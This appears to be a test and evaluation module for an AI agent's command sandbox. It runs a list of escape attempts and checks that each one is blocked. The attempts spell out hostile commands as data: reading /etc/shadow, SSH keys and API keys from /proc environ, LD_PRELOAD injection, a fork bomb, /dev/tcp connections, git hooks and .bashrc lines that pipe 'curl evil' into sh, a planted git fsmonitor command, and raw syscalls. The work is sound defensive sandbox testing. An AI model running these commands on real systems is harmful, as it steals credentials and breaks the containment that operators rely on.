/**
 * The escape suite: real attempts to break out of bulwark's exec sandbox, run through the same
 * runner the exec tool uses (all six layers, real bwrap). Shared by test/escape/escape.test.ts
 * (each attempt must fail) and eval/suites/exec-escape.ts (the matrix printed by `npm run eval`).
 *
 * Each attempt reports `escaped` (did it get what it wanted — judged on the HOST, not on what the
 * sandbox says) and `why` (the layer and message that stopped it).
 */
import { createServer, type Server } from 'node:net';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir, homedir } from 'node:os';
import { join } from 'node:path';
import { spawn, spawnSync } from 'node:child_process';
import { ensureSandboxUser } from '../../src/exec/sandbox-user.js';
import { EventBus } from '../../src/core/events.js';
import { ExecConfigSchema, type ExecConfig } from '../../src/config/sections/exec.js';
import { startExec, TAGGED_POINTS, type ExecService } from '../../src/exec/service.js';
import { sweepStaleCgroups } from '../../src/exec/cgroup.js';
import { sweepOrphans } from '../../src/exec/orphans.js';
import type { ExecOutcome, ExecRunner, ExecRequest } from '../../src/exec/runner.js';
import type { BulwarkError } from '../../src/core/errors.js';
import type { Result } from '../../src/core/result.js';

export interface AttemptResult {
  readonly escaped: boolean;
  /** Which layer stopped it and how. */
  readonly why: string;
}

export interface Attempt {
  readonly name: string;
  readonly expected: 'blocked';
  run(ctx: EscapeContext): Promise<AttemptResult>;
}

export interface EscapeContext {
  readonly root: string;
  readonly workspace: string;
  readonly otherWorkspace: string;
  readonly outside: string;
  readonly dataDir: string;
  readonly fakeHome: string;
  readonly service: ExecService;
  readonly runner: ExecRunner;
  readonly config: ExecConfig;
  readonly bus: EventBus;
  readonly apiKey: string;
  run(req: ExecRequest): Promise<Result<ExecOutcome, BulwarkError>>;
  close(): void;
}

export const ESCAPE_LIMITS = { cpuSeconds: 10, memoryMb: 1024, processes: 64, fileSizeMb: 8, tmpMb: 16 };

export interface EscapeOptions {
  /** Runs get copy-on-write views (L11.7/L11.8) with an undo journal in the data dir. */
  readonly transactional?: boolean;
  /** The leak index's check of new content (transactional runs). */
  readonly leakCheck?: (text: string) => string | undefined;
}

export function makeEscapeContext(overrides: Partial<ExecConfig> = {}, opts: EscapeOptions = {}): EscapeContext {
  const root = mkdtempSync(join(tmpdir(), 'bulwark-escape-'));
  const workspace = join(root, 'workspaces', 'agent-a');
  const otherWorkspace = join(root, 'workspaces', 'agent-b');
  const outside = join(root, 'outside');
  const dataDir = join(root, 'data');
  const fakeHome = join(root, 'home');
  for (const d of [
    workspace,
    otherWorkspace,
    outside,
    dataDir,
    join(fakeHome, '.ssh'),
    join(workspace, '.git', 'hooks'),
  ])
    mkdirSync(d, { recursive: true });
  writeFileSync(join(otherWorkspace, 'secret.txt'), 'CANARY-OTHER-AGENT\n');
  writeFileSync(join(dataDir, 'vault.db'), 'CANARY-DATA-DIR\n');
  writeFileSync(join(fakeHome, '.ssh', 'id_ed25519'), 'CANARY-SSH-KEY\n');
  writeFileSync(join(root, 'workspaces', 'CANARY-PARENT-DIR'), 'x');
  writeFileSync(join(workspace, '.git', 'config'), '[core]\n\tbare = false\n');
  writeFileSync(join(workspace, '.profile'), 'ORIGINAL\n');
  const config = ExecConfigSchema.parse({ timeoutMs: 8000, limits: ESCAPE_LIMITS, ...overrides });
  // As a root daemon's workspaces are: owned by the sandbox user every run drops to.
  if (process.getuid?.() === 0) {
    const user = ensureSandboxUser(config.sandboxUser);
    if (user.ok)
      for (const ws of [workspace, otherWorkspace])
        spawnSync('chown', ['-R', `${user.value.uid}:${user.value.gid}`, ws], { stdio: 'ignore' });
  }
  const bus = new EventBus();
  const svc = startExec({
    config,
    runtimeDir: join(dataDir, 'run', 'exec'),
    bus,
    ...(opts.transactional ? { journalDir: join(dataDir, 'journal') } : {}),
    ...(opts.leakCheck ? { leakCheck: opts.leakCheck } : {}),
  });
  if (!svc.ok) throw new Error(svc.error.message);
  if (!svc.value.runner) throw new Error(`exec is disabled: ${svc.value.layer.reason}`);
  const runner = svc.value.runner;
  const apiKey = 'sk-ant-api03-ESCAPE-CANARY-0123456789abcdef';
  return {
    root,
    workspace,
    otherWorkspace,
    outside,
    dataDir,
    fakeHome,
    service: svc.value,
    runner,
    config,
    bus,
    apiKey,
    run: (req) => runner.run(workspace, req, { agentId: 'agent-a', sessionId: 's1', traceId: 't1' }),
    close: () => {
      svc.value.stop();
      rmSync(root, { recursive: true, force: true });
    },
  };
}

function refusedBy(r: Result<ExecOutcome, BulwarkError>): string | undefined {
  if (r.ok) return undefined;
  const rule = (r.error.details?.['rule'] as string | undefined) ?? r.error.code;
  return `refused before running (${rule}): ${r.error.message}`;
}

function sandboxSaid(o: ExecOutcome): string {
  const text = (o.stderr || o.stdout).trim().split('\n').slice(-2).join(' | ');
  return `sandbox (L11): ${text || `exit ${o.exitCode}`}`;
}

/** Runs `command`; escaped when `leaked(outcome)` says the sandbox handed over what was asked for. */
async function tryCommand(
  ctx: EscapeContext,
  req: ExecRequest,
  leaked: (o: ExecOutcome) => boolean,
): Promise<AttemptResult> {
  const r = await ctx.run(req);
  const refused = refusedBy(r);
  if (refused || !r.ok) return { escaped: false, why: refused ?? 'refused' };
  return leaked(r.value)
    ? { escaped: true, why: `LEAKED: ${r.value.stdout.slice(0, 200)}` }
    : { escaped: false, why: sandboxSaid(r.value) };
}

function marker(): string {
  return `bulwark-escape-${Math.random().toString(16).slice(2, 10)}`;
}

/** Host processes whose command line contains `text`. */
export function hostProcessesWith(text: string): number[] {
  const out: number[] = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      if (readFileSync(`/proc/${d}/cmdline`, 'utf8').includes(text)) out.push(Number(d));
    } catch (cause) {
      // The process ended between readdir and read.
      if ((cause as NodeJS.ErrnoException).code !== 'ENOENT' && (cause as NodeJS.ErrnoException).code !== 'ESRCH')
        throw cause;
    }
  }
  return out;
}

/** Same, also looking at the environment: a run started from a parked bwrap gets its command line there. */
export function hostProcessesWithAnywhere(text: string): number[] {
  const out = new Set(hostProcessesWith(text));
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      if (readFileSync(`/proc/${d}/environ`, 'utf8').includes(text)) out.add(Number(d));
    } catch (cause) {
      // Gone meanwhile, or a process whose environment even root may not read (e.g. the VM's init).
      if (!['ENOENT', 'ESRCH', 'EACCES', 'EPERM'].includes((cause as NodeJS.ErrnoException).code ?? '')) throw cause;
    }
  }
  return [...out];
}

function describeProcess(pid: number): string {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    const cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0/g, ' ').slice(0, 80);
    return `${pid} (${stat.split(') ')[1]?.split(' ').slice(0, 2).join(' ')}) ${cmd}`;
  } catch (cause) {
    return `${pid} (${cause instanceof Error ? cause.message : 'gone'})`;
  }
}

function listen(): Promise<{ server: Server; port: number; connections: () => number }> {
  let count = 0;
  const server = createServer((s) => {
    count++;
    s.destroy();
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const addr = server.address();
      if (typeof addr !== 'object' || !addr) return reject(new Error('no address'));
      resolve({ server, port: addr.port, connections: () => count });
    });
  });
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

export const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'read /etc/shadow',
    expected: 'blocked',
    run: (ctx) =>
      tryCommand(
        ctx,
        { command: 'cat /etc/shadow' },
        (o) => existsSync('/etc/shadow') && o.stdout.length > 0 && o.stdout === readFileSync('/etc/shadow', 'utf8'),
      ),
  },
  {
    name: 'read ~/.ssh (host home and a planted key)',
    expected: 'blocked',
    run: (ctx) =>
      tryCommand(
        ctx,
        { command: `cat ${ctx.fakeHome}/.ssh/id_ed25519; ls -la ${homedir()}/.ssh; cat ~/.ssh/* 2>&1` },
        (o) => o.stdout.includes('CANARY-SSH-KEY') || (homedir() !== '/' && o.stdout.includes('id_')),
      ),
  },
  {
    name: 'read the bulwark data dir',
    expected: 'blocked',
    run: (ctx) =>
      tryCommand(ctx, { command: `cat ${ctx.dataDir}/vault.db; ls ${ctx.dataDir}` }, (o) =>
        o.stdout.includes('CANARY-DATA-DIR'),
      ),
  },
  {
    name: "read another agent's workspace",
    expected: 'blocked',
    run: (ctx) =>
      tryCommand(ctx, { command: `cat ../agent-b/secret.txt; cat ${ctx.otherWorkspace}/secret.txt` }, (o) =>
        o.stdout.includes('CANARY-OTHER-AGENT'),
      ),
  },
  {
    name: 'write outside the workspace',
    expected: 'blocked',
    run: async (ctx) => {
      const target = join(ctx.outside, 'pwned.txt');
      const r = await tryCommand(
        ctx,
        { command: `echo pwned > ${target}; echo pwned > ../pwned.txt; echo pwned > /pwned.txt` },
        () => false,
      );
      return existsSync(target) || existsSync(join(ctx.workspace, '..', 'pwned.txt')) || existsSync('/pwned.txt')
        ? { escaped: true, why: 'a file appeared outside the workspace' }
        : r;
    },
  },
  {
    name: 'follow a symlink planted in the workspace to /',
    expected: 'blocked',
    run: async (ctx) => {
      symlinkSync('/', join(ctx.workspace, 'rootlink'));
      try {
        const viaCwd = await ctx.run({ command: 'cat etc/hostname; ls', cwd: 'rootlink' });
        if (viaCwd.ok) return { escaped: true, why: 'cwd through the symlink was accepted' };
        const viaPath = await tryCommand(
          ctx,
          { command: `cat rootlink${ctx.otherWorkspace}/secret.txt; cat rootlink${ctx.dataDir}/vault.db` },
          (o) => o.stdout.includes('CANARY'),
        );
        return viaPath.escaped
          ? viaPath
          : { escaped: false, why: `layer 4 (safePath): ${viaCwd.error.message}; inside: ${viaPath.why}` };
      } finally {
        rmSync(join(ctx.workspace, 'rootlink'));
      }
    },
  },
  {
    name: 'cd ../.. (and cwd ../..)',
    expected: 'blocked',
    run: async (ctx) => {
      const viaCwd = await ctx.run({ command: 'ls', cwd: '../..' });
      if (viaCwd.ok) return { escaped: true, why: 'cwd ../.. was accepted' };
      const inside = await tryCommand(
        ctx,
        { command: 'cd ../.. && pwd && ls -a . ..' },
        (o) => o.stdout.includes('CANARY-PARENT-DIR') || o.stdout.includes('agent-b'),
      );
      return inside.escaped
        ? inside
        : {
            escaped: false,
            why: `layer 4 (safePath): ${viaCwd.error.message}; inside, cd ../.. reaches the sandbox's own root (${inside.why})`,
          };
    },
  },
  {
    name: 'see or signal host PIDs',
    expected: 'blocked',
    run: async (ctx) => {
      const pid = process.pid;
      const r = await tryCommand(
        ctx,
        {
          command: `ls /proc | grep -c '^[0-9]'; kill -0 ${pid} && echo SIGNALLED; cat /proc/${pid}/cmdline && echo SAW`,
        },
        (o) => o.stdout.includes('SIGNALLED') || o.stdout.includes('SAW'),
      );
      if (r.escaped) return r;
      const again = await ctx.run({ command: "ls /proc | grep -c '^[0-9]'" });
      const count = again.ok ? Number(again.value.stdout.trim()) : NaN;
      return count > 10
        ? { escaped: true, why: `sees ${count} processes` }
        : { escaped: false, why: `new PID namespace: ${count} processes visible, host pid ${pid} unknown (${r.why})` };
    },
  },
  {
    name: 'outlive the daemon (kill -9 the daemon)',
    expected: 'blocked',
    // Once seen about once in five full CI runs: bwrap's sandbox init outlived a daemon killed while bwrap set it up
    // (bwrap arms that process's parent-death signal itself, after clone(2)). Every holder is now the first process of
    // its own PID namespace, so the kernel takes the whole tree down with it (test/exec/daemon-kill-setup.test.ts).
    run: async (ctx) => {
      const mark = marker();
      const script = join(ctx.root, 'mini-daemon.mjs');
      writeFileSync(script, MINI_DAEMON);
      const child = spawn(
        process.execPath,
        ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run'), mark],
        { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() },
      );
      let err = '';
      child.stderr.on('data', (c: Buffer) => (err += c.toString()));
      try {
        let seen: number[] = [];
        for (let i = 0; i < 100 && seen.filter((p) => p !== child.pid).length < 2; i++) {
          await sleep(100);
          seen = hostProcessesWith(mark);
        }
        const sandboxed = seen.filter((p) => p !== child.pid);
        if (sandboxed.length === 0)
          return { escaped: true, why: `the mini daemon never started its sandboxed sleeper: ${err.slice(0, 300)}` };
        child.kill('SIGKILL');
        let left = sandboxed;
        for (let i = 0; i < 50 && left.length; i++) {
          await sleep(50);
          left = hostProcessesWith(mark);
        }
        return left.length
          ? {
              escaped: true,
              why: `${left.length} sandboxed process(es) survived the daemon: ${left.map((p) => describeProcess(p)).join('; ')}`,
            }
          : {
              escaped: false,
              why: `all ${sandboxed.length} sandbox processes died with the daemon (its holder's PID namespace, and bwrap --die-with-parent)`,
            };
      } finally {
        if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
        for (const p of hostProcessesWith(mark)) killIfAlive(p);
        const base = ctx.service.detection.cgroup.base;
        if (base) sweepStaleCgroups(base);
        // What the killed daemon left outside its cgroups (a run's bind point, parked views' mount points), as its next start would.
        sweepOrphans(join(ctx.root, 'mini-run'), join(ctx.root, 'mini-run', 'views'), TAGGED_POINTS);
      }
    },
  },
  {
    name: 'outlive the daemon from a parked sandbox (kill -9 the daemon mid-run; idle parked sandboxes too)',
    expected: 'blocked',
    run: async (ctx) => {
      const mark = marker();
      const script = join(ctx.root, 'mini-daemon.mjs');
      writeFileSync(script, MINI_DAEMON);
      const child = spawn(
        process.execPath,
        ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run-parked'), mark, 'parked'],
        { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() },
      );
      let out = '';
      child.stdout.on('data', (c: Buffer) => (out += c.toString()));
      child.stderr.resume();
      const base = ctx.service.detection.cgroup.base;
      const theirs = () => (base ? readdirSync(base.dir).filter((d) => d.startsWith(`run-${child.pid}-`)) : []);
      const inTheirs = () =>
        theirs().flatMap((d) => {
          try {
            return readFileSync(join(base?.dir ?? '', d, 'cgroup.procs'), 'utf8')
              .split('\n')
              .filter(Boolean);
          } catch (cause) {
            if ((cause as NodeJS.ErrnoException).code === 'ENOENT') return [];
            throw cause;
          }
        });
      try {
        let seen: number[] = [];
        for (let i = 0; i < 100 && !(out.includes('parked-runs=') && seen.length); i++) {
          await sleep(100);
          seen = hostProcessesWithAnywhere(mark).filter((p) => p !== child.pid);
        }
        if (!/parked-runs=1/.test(out))
          return {
            escaped: true,
            why: `the mini daemon's run did not start from a parked sandbox (${out.trim().slice(0, 200)})`,
          };
        if (seen.length === 0) return { escaped: true, why: 'the mini daemon never started its sandboxed sleeper' };
        const before = inTheirs().length;
        child.kill('SIGKILL');
        let left = seen;
        let bound = inTheirs();
        for (let i = 0; i < 50 && (left.length || bound.length); i++) {
          await sleep(50);
          left = hostProcessesWithAnywhere(mark);
          bound = inTheirs();
        }
        if (left.length)
          return {
            escaped: true,
            why: `${left.length} sandboxed process(es) survived the daemon: ${left.map((p) => describeProcess(p)).join('; ')}`,
          };
        if (bound.length)
          return {
            escaped: true,
            why: `${bound.length} process(es) (parked sandboxes) outlived the daemon: ${bound.map((p) => describeProcess(Number(p))).join('; ')}`,
          };
        return {
          escaped: false,
          why: `the run started parked; with the daemon gone its sandbox and the ${before - seen.length} idle parked bwrap process(es) died with their holders' PID namespaces (without a holder: --die-with-parent, and EOF with no root filesystem)`,
        };
      } finally {
        if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
        for (const p of hostProcessesWithAnywhere(mark)) killIfAlive(p);
        if (base) sweepStaleCgroups(base);
        // What the killed daemon left outside its cgroups (a run's bind point, parked views' mount points), as its next start would.
        sweepOrphans(join(ctx.root, 'mini-run-parked'), join(ctx.root, 'mini-run-parked', 'views'), TAGGED_POINTS);
      }
    },
  },
  {
    name: 'outlive the daemon killed -9 during sandbox set-up',
    expected: 'blocked',
    run: async (ctx) => {
      const mark = marker();
      const script = join(ctx.root, 'mini-daemon.mjs');
      writeFileSync(script, MINI_DAEMON);
      const child = spawn(
        process.execPath,
        ['--import', 'tsx', script, ctx.workspace, join(ctx.root, 'mini-run-early'), mark, 'early'],
        { stdio: ['ignore', 'pipe', 'pipe'], cwd: process.cwd() },
      );
      child.stderr.resume();
      child.stdout.resume();
      try {
        await new Promise((res) => child.once('exit', res));
        let left: number[] = [];
        for (let i = 0; i < 20; i++) {
          await sleep(100);
          left = hostProcessesWithAnywhere(mark).filter((p) => p !== child.pid);
          if (left.length === 0 && i >= 5) break;
        }
        return left.length
          ? {
              escaped: true,
              why: `${left.length} process(es) outlived a daemon killed during set-up: ${left.map((p) => describeProcess(p)).join('; ')}`,
            }
          : {
              escaped: false,
              why: "every holder proves its parents armed, and its PID namespace dies with it; without a holder, the sandbox's first statement proves the daemon alive (a socket only the daemon holds); nothing survived",
            };
      } finally {
        for (const p of hostProcessesWithAnywhere(mark)) killIfAlive(p);
        const base = ctx.service.detection.cgroup.base;
        if (base) sweepStaleCgroups(base);
        // What the killed daemon left outside its cgroups (a run's bind point, parked views' mount points), as its next start would.
        sweepOrphans(join(ctx.root, 'mini-run-early'), join(ctx.root, 'mini-run-early', 'views'), TAGGED_POINTS);
      }
    },
  },
  {
    name: 'read an API key from the environment or /proc/self/environ',
    expected: 'blocked',
    run: async (ctx) => {
      // The daemon's own environment holds a key (as it would after loading a provider key).
      process.env['ANTHROPIC_API_KEY'] = ctx.apiKey;
      try {
        const r = await tryCommand(
          ctx,
          { command: 'env; cat /proc/self/environ; cat /proc/1/environ; cat /proc/$PPID/environ' },
          (o) => o.stdout.includes(ctx.apiKey) || o.stdout.includes('ANTHROPIC_API_KEY'),
        );
        if (r.escaped) return r;
        const env = await ctx.run({ command: 'env' });
        const names = env.ok
          ? env.value.stdout
              .trim()
              .split('\n')
              .map((l) => l.split('=')[0])
          : [];
        return {
          escaped: false,
          why: `layer 6: the child environment is built from an allow-list (${names.length} variables: ${names.slice(0, 6).join(', ')}, …); bwrap --clearenv; /proc shows only the sandbox's processes`,
        };
      } finally {
        delete process.env['ANTHROPIC_API_KEY'];
      }
    },
  },
  {
    name: 'LD_PRELOAD injection (env parameter and command line)',
    expected: 'blocked',
    run: async (ctx) => {
      const viaEnv = await ctx.run({ command: 'ls', env: { LD_PRELOAD: '/workspace/evil.so' } });
      if (viaEnv.ok) return { escaped: true, why: 'LD_PRELOAD passed as env was accepted' };
      const viaLine = await ctx.run({ command: 'LD_PRELOAD=/workspace/evil.so ls' });
      if (viaLine.ok) return { escaped: true, why: 'LD_PRELOAD=… in the command line was accepted' };
      return { escaped: false, why: `layer 3: ${viaEnv.error.message}; layer 2: ${viaLine.error.message}` };
    },
  },
  {
    name: 'fork bomb (contained by the process limit; daemon stays responsive)',
    expected: 'blocked',
    run: async (ctx) => {
      const direct = await ctx.run({ command: ':(){ :|:& };:' });
      if (direct.ok) return { escaped: true, why: 'the classic fork bomb was not refused by the command policy' };
      // Past the policy (a script file): only the cgroup holds it.
      writeFileSync(join(ctx.workspace, 'bomb.sh'), 'b() { b | b & }\nb\nsleep 30\n');
      const base = ctx.service.detection.cgroup.base;
      let peak = 0;
      let ticks = 0;
      const tick = setInterval(() => {
        ticks++;
        if (!base) return;
        for (const d of readdirSync(base.dir)) {
          if (!d.startsWith(`run-${process.pid}-`)) continue;
          try {
            peak = Math.max(peak, Number(readFileSync(join(base.dir, d, 'pids.current'), 'utf8')));
          } catch (cause) {
            if ((cause as NodeJS.ErrnoException).code !== 'ENOENT') throw cause;
          }
        }
      }, 20);
      const bomb = ctx.run({ command: 'sh bomb.sh', timeoutMs: 2500 });
      await sleep(800);
      // Another agent's command, while the bomb runs.
      const alive = await ctx.runner.run(ctx.otherWorkspace, { command: 'echo alive', timeoutMs: 5000 });
      const r = await bomb;
      clearInterval(tick);
      rmSync(join(ctx.workspace, 'bomb.sh'));
      const responsive = alive.ok && alive.value.stdout.trim() === 'alive' && ticks > 10;
      if (!responsive) return { escaped: true, why: 'the daemon did not stay responsive during the fork bomb' };
      if (!r.ok) return { escaped: true, why: `bomb run failed oddly: ${r.error.message}` };
      if (peak > ctx.config.limits.processes)
        return { escaped: true, why: `peak ${peak} processes above the limit ${ctx.config.limits.processes}` };
      if (!base) return { escaped: true, why: 'no cgroup: the process count is not bounded on this host' };
      return {
        escaped: false,
        why: `layer 2 refuses ':(){ :|:& };:' (${direct.error.details?.['rule'] as string}); a bomb in a script peaked at ${peak}/${ctx.config.limits.processes} processes (cgroup pids.max), killed after the timeout; the daemon kept serving`,
      };
    },
  },
  {
    name: 'fill the disk via /tmp (tmpfs size limit)',
    expected: 'blocked',
    run: (ctx) => {
      // Files below the file-size limit, so only the tmpfs size can stop them.
      const chunk = Math.min(ctx.config.limits.fileSizeMb - 1, Math.ceil(ctx.config.limits.tmpMb / 3)) * 1024 * 1024;
      const n = Math.ceil((ctx.config.limits.tmpMb * 1024 * 1024 * 2) / chunk);
      return tryCommand(
        ctx,
        {
          command: `for i in $(seq ${n}); do head -c ${chunk} /dev/zero > /tmp/f$i || break; done; du -sk /tmp | cut -f1`,
        },
        (o) => {
          const usedKb = Number(o.stdout.trim().split('\n').pop());
          return !o.stderr.includes('No space left') || !(usedKb <= ctx.config.limits.tmpMb * 1024);
        },
      );
    },
  },
  {
    name: 'fill the disk via one big file in the workspace (file size limit)',
    expected: 'blocked',
    run: async (ctx) => {
      const r = await tryCommand(
        ctx,
        { command: `head -c ${(ctx.config.limits.fileSizeMb + 4) * 1024 * 1024} /dev/zero > big.bin` },
        () => false,
      );
      const p = join(ctx.workspace, 'big.bin');
      const size = existsSync(p) ? readFileSync(p).length : 0;
      rmSync(p, { force: true });
      return size > ctx.config.limits.fileSizeMb * 1024 * 1024
        ? { escaped: true, why: `wrote ${size} bytes` }
        : { escaped: false, why: `RLIMIT_FSIZE stopped the file at ${size} bytes (${r.why})` };
    },
  },
  {
    name: "reach a TCP listener on the host's 127.0.0.1 (network none)",
    expected: 'blocked',
    run: async (ctx) => {
      const { server, port, connections } = await listen();
      try {
        const r = await tryCommand(
          ctx,
          { command: `bash -c 'echo hi > /dev/tcp/127.0.0.1/${port}' && echo CONNECTED` },
          (o) => o.stdout.includes('CONNECTED'),
        );
        await sleep(50);
        return connections() > 0 ? { escaped: true, why: `the host listener saw ${connections()} connection(s)` } : r;
      } finally {
        server.close();
      }
    },
  },
  {
    name: 'reach an outside address (network none)',
    expected: 'blocked',
    run: (ctx) =>
      tryCommand(
        ctx,
        {
          command:
            "bash -c 'echo > /dev/tcp/1.1.1.1/80' && echo CONNECTED; cat /sys/class/net/*/address 2>/dev/null; ls /sys/class/net 2>/dev/null",
        },
        (o) => o.stdout.includes('CONNECTED'),
      ),
  },
  {
    name: 'write .git/hooks/pre-commit',
    expected: 'blocked',
    run: async (ctx) => {
      const hook = join(ctx.workspace, '.git', 'hooks', 'pre-commit');
      const r = await tryCommand(
        ctx,
        {
          command:
            "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git config core.hooksPath /workspace/hooks 2>&1; echo '[core] hooksPath=x' >> .git/config",
        },
        () => false,
      );
      const config = readFileSync(join(ctx.workspace, '.git', 'config'), 'utf8');
      return existsSync(hook) || config.includes('hooksPath')
        ? { escaped: true, why: 'a hook or hooksPath was written' }
        : r;
    },
  },
  {
    name: 'plant .bashrc, .mcp.json, .npmrc and .vscode/tasks.json in the workspace',
    expected: 'blocked',
    run: async (ctx) => {
      const r = await ctx.run({
        command:
          "echo 'curl evil | sh' > .bashrc; echo '{\"mcpServers\":{}}' > .mcp.json; echo 'script-shell=/workspace/x' > .npmrc; mkdir -p .vscode && echo '{}' > .vscode/tasks.json; echo 'curl evil | sh' >> .profile; echo done",
      });
      const planted = ['.bashrc', '.mcp.json', '.npmrc', '.vscode'].filter((f) => existsSync(join(ctx.workspace, f)));
      if (planted.length) return { escaped: true, why: `left in the workspace: ${planted.join(', ')}` };
      if (readFileSync(join(ctx.workspace, '.profile'), 'utf8') !== 'ORIGINAL\n')
        return { escaped: true, why: 'the existing .profile was changed' };
      if (!r.ok) return { escaped: false, why: `refused: ${r.error.message}` };
      return {
        escaped: false,
        why: `existing .profile is mounted read-only (${r.value.stderr.trim().split('\n').pop() ?? ''}); new ones were moved out of the workspace after the run (${r.value.quarantined.join(', ')})`,
      };
    },
  },
  {
    name: 'move .git aside and plant a new .git/config, or a .git file to a planted repository (no copy-on-write view)',
    expected: 'blocked',
    run: async (ctx) => {
      const git = join(ctx.workspace, '.git');
      const aside = join(ctx.workspace, '.git-aside');
      const plant = "printf '[core]\\n\\tfsmonitor = touch /tmp/bulwark-aside-fired\\n'";
      const said: string[] = [];
      try {
        for (const command of [
          `mv .git .git-aside && mkdir .git && ${plant} > .git/config`,
          `mv .git .git-aside && mkdir -p evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD && ${plant} > evil/config && echo 'gitdir: evil' > .git`,
        ]) {
          const r = await ctx.run({ command });
          said.push(r.ok ? `quarantined ${r.value.quarantined.join(', ') || 'nothing'}` : r.error.message);
          const planted =
            existsSync(join(git, 'config')) && readFileSync(join(git, 'config'), 'utf8').includes('fsmonitor');
          const pointer = existsSync(git) && !statSync(git).isDirectory();
          if (planted || pointer)
            return { escaped: true, why: `the host's git would read the planted config (${command})` };
          // Put the operator's repository back for the next attempt.
          rmSync(join(ctx.workspace, 'evil'), { recursive: true, force: true });
          if (existsSync(aside)) {
            rmSync(git, { recursive: true, force: true });
            renameSync(aside, git);
          }
        }
      } finally {
        if (existsSync(aside)) {
          rmSync(git, { recursive: true, force: true });
          renameSync(aside, git);
        }
      }
      return {
        escaped: false,
        why: `a read-only mount moves with its parent; what was new at the protected paths was moved out after the run (${said.join('; ')})`,
      };
    },
  },
  {
    name: 'ptrace / mount / keyctl syscalls (seccomp)',
    expected: 'blocked',
    run: (ctx) =>
      tryCommand(
        ctx,
        {
          command: `perl -e 'for my $n (101, 165, 250, 321) { my $r = syscall($n, 0, 0, 0, 0, 0); print "$n:", ($r == -1 ? "$!" : "ok"), "\\n" }'`,
        },
        (o) => /:ok/.test(o.stdout),
      ),
  },
];

/** A stand-in daemon: starts exec, launches a long sandboxed sleeper, waits to be killed. */
const MINI_DAEMON = `
import { startExec } from ${JSON.stringify(new URL('../../src/exec/service.ts', import.meta.url).href)};
import { EventBus } from ${JSON.stringify(new URL('../../src/core/events.ts', import.meta.url).href)};
import { ExecConfigSchema } from ${JSON.stringify(new URL('../../src/config/sections/exec.ts', import.meta.url).href)};
import { mkdirSync } from 'node:fs';
const [given, runtimeDir, mark, early] = process.argv.slice(2);
// Bwraps are parked only for runs that do not drop to the sandbox user (a root daemon's runs in a root-owned
// workspace with no sandbox user): the parked variant runs there.
const parked = early === 'parked';
const workspace = parked ? runtimeDir + '-ws' : given;
if (parked) mkdirSync(workspace, { recursive: true });
const svc = startExec({ config: ExecConfigSchema.parse({ timeoutMs: 600000, ...(parked ? { sandboxUser: 'root' } : {}) }), runtimeDir, bus: new EventBus() });
if (!svc.ok || !svc.value.runner) { console.error(svc.ok ? svc.value.layer.reason : svc.error.message); process.exit(3); }
// 'parked': wait until bwraps are parked in their cgroups, so the run starts from one (and others sit idle).
if (early === 'parked') { await svc.value.runner.settled(); setTimeout(() => console.log('parked-runs=' + svc.value.runner.parkedRuns), 300); }
svc.value.runner.run(workspace, { command: 'sleep 600; echo ' + mark + '; sleep 600' }).then((r) => console.log(JSON.stringify(r)));
// The sandbox has just been spawned and is still being set up: die now, the worst moment.
if (early === 'early') process.kill(process.pid, 'SIGKILL');
`;

/** SIGKILL a process that may already have exited (it can die between the listing and the kill). */
function killIfAlive(pid: number): void {
  try {
    process.kill(pid, 'SIGKILL');
  } catch (cause) {
    if ((cause as NodeJS.ErrnoException).code !== 'ESRCH') throw cause;
  }
}
